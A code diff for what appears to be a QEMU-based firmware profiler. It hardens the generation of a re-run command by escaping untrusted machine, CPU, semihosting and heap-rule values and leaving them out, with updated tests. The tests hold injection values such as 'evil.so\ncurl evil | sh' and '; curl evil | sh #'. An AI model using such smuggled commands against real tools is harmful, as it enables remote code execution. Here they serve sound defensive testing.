@@ -1,11 +1,15 @@
 //! Facts of a run for the report, and the command that makes the same profile again.
 
+use clap::ValueEnum as _;
+
 use crate::analysis::describe;
 use crate::analysis::stacks::View;
 use crate::analysis::visit;
+use crate::image::heap::rule::Kind;
 use crate::profile::input::When;
 use crate::profile::{Profile, SpanKind};
 use crate::run::options::{DEFAULT_BIN_BYTES, DEFAULT_MAX_DEPTH, DEFAULT_PERIOD_INSNS};
+use crate::run::semihosting::Semihosting;
 use crate::run::settings::{self, Setting};
 use crate::text::number::{Hex, group};
 
@@ -142,15 +146,16 @@ fn command(profile: &Profile, view: View) -> String {
     }
     // A page may come from anybody, and what is copied from it runs: of QEMU's arguments it has those that a file may
     // have, and names the others.
+    // Escaped: a comment is one line.
     let mut left_out: Vec<String> = Vec::new();
     if settings::check_machine(&facts.machine).is_ok() {
         option("--machine", facts.machine.clone());
     } else {
-        left_out.push(format!("--machine {}", facts.machine));
+        left_out.push(format!("--machine {}", facts.machine.escape_debug()));
     }
     match &facts.cpu {
         Some(cpu) if settings::check_cpu(cpu).is_ok() => option("--cpu", cpu.clone()),
-        cpu => left_out.extend(cpu.iter().map(|cpu| format!("--cpu {cpu}"))),
+        cpu => left_out.extend(cpu.iter().map(|cpu| format!("--cpu {}", cpu.escape_debug()))),
     }
     option("--shift", facts.icount_shift.to_string());
     if let Some(address) = facts.load_addr {
@@ -163,7 +168,10 @@ fn command(profile: &Profile, view: View) -> String {
         option("--vectors", format!("{address:#x}"));
     }
     if let Some(served) = &facts.semihosting {
-        option("--semihosting", served.clone());
+        match Semihosting::from_str(served, false) {
+            Ok(Semihosting::Unchecked) | Err(_) => left_out.push(format!("--semihosting {}", served.escape_debug())),
+            Ok(_) => option("--semihosting", served.clone()),
+        }
     }
     for stub in &facts.stubs {
         let is_alone = profile.names.functions.iter().filter(|function| function.name == stub.name).count() == 1;
@@ -183,7 +191,10 @@ fn command(profile: &Profile, view: View) -> String {
     if let Some(heap) = &profile.heap {
         words.push("--heap".to_owned());
         for (option, rule) in &heap.rules {
-            words.extend([option.clone(), quote(rule)]);
+            match [Kind::Alloc, Kind::Free].map(Kind::option).into_iter().find(|known| known == option) {
+                Some(option) => words.extend([option.to_owned(), quote(rule)]),
+                None => left_out.push(format!("{} {}", option.escape_debug(), rule.escape_debug())),
+            }
         }
     }
     if let Some(timeline) = &profile.timeline {
@@ -205,10 +216,8 @@ fn command(profile: &Profile, view: View) -> String {
         words.push("--".to_owned());
         words.extend(facts.firmware_args.iter().map(|argument| quote(argument)));
     }
-    left_out.extend(others.iter().map(|other| format!("QEMU's {other}")));
+    left_out.extend(others.iter().map(|other| format!("QEMU's {}", other.to_string().escape_debug())));
     if !left_out.is_empty() {
-        // Escaped, so that a comment stays one line.
-        let left_out: Vec<String> = left_out.iter().map(|one| one.escape_default().to_string()).collect();
         words.push(format!("# left out, since it may reach files or programs: {}", left_out.join("; ")));
     }
     words.join(" ")
@@ -251,9 +260,9 @@ fn quote(word: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::profile::Heap;
     use crate::profile::input::Input;
     use crate::profile::testing::empty;
-    use crate::run::semihosting::Semihosting;
 
     #[test]
     fn the_command_says_what_is_not_the_default_and_survives_a_shell() {
@@ -288,13 +297,28 @@ mod tests {
         facts.image_name = "--sandbox=off".to_owned();
         facts.machine = "mps2-an385,dumpdtb=/x".to_owned();
         facts.cpu = Some("cortex-m3,x=/y".to_owned());
+        facts.semihosting = Some("unchecked".to_owned());
         let arguments = ["-smp", "2", "-plugin", "evil.so\ncurl evil | sh", "-s"];
         facts.qemu_args = arguments.map(str::to_owned).to_vec();
+        let rules = ["--heap-alloc", "; curl evil | sh #"].map(|option| (option.to_owned(), "f(r0)".to_owned()));
+        profile.heap = Some(Heap { rules: rules.to_vec(), ..Heap::default() });
         let command = command(&profile, View::default());
         let (run, left_out) = command.split_once(" # left out, ").unwrap();
-        assert!(run.ends_with("--qemu-arg=-smp --qemu-arg=2 --no-stacks ./--sandbox=off"), "{run}");
-        assert!(!run.contains("dumpdtb") && !run.contains("/y") && !run.contains("evil"), "{run}");
-        assert!(left_out.contains("dumpdtb=/x; --cpu cortex-m3,x=/y; QEMU's -plugin evil.so\\ncurl"), "{left_out}");
+        assert!(
+            run.ends_with("--qemu-arg=-smp --qemu-arg=2 --heap --heap-alloc 'f(r0)' --no-stacks ./--sandbox=off"),
+            "{run}"
+        );
+        assert!(
+            !run.contains("dumpdtb") && !run.contains("curl") && !run.contains("/y") && !run.contains("evil"),
+            "{run}"
+        );
+        let semihosting = "--semihosting unchecked";
+        assert!(!run.contains(semihosting) && left_out.contains(semihosting), "{command}");
+        assert!(
+            left_out
+                .contains("dumpdtb=/x; --cpu cortex-m3,x=/y; --semihosting unchecked; ; curl evil | sh # f(r0); QEMU's -plugin evil.so\\ncurl"),
+            "{left_out}"
+        );
         assert!(left_out.ends_with("; QEMU's -s") && !left_out.contains('\n'), "{left_out}");
     }
 
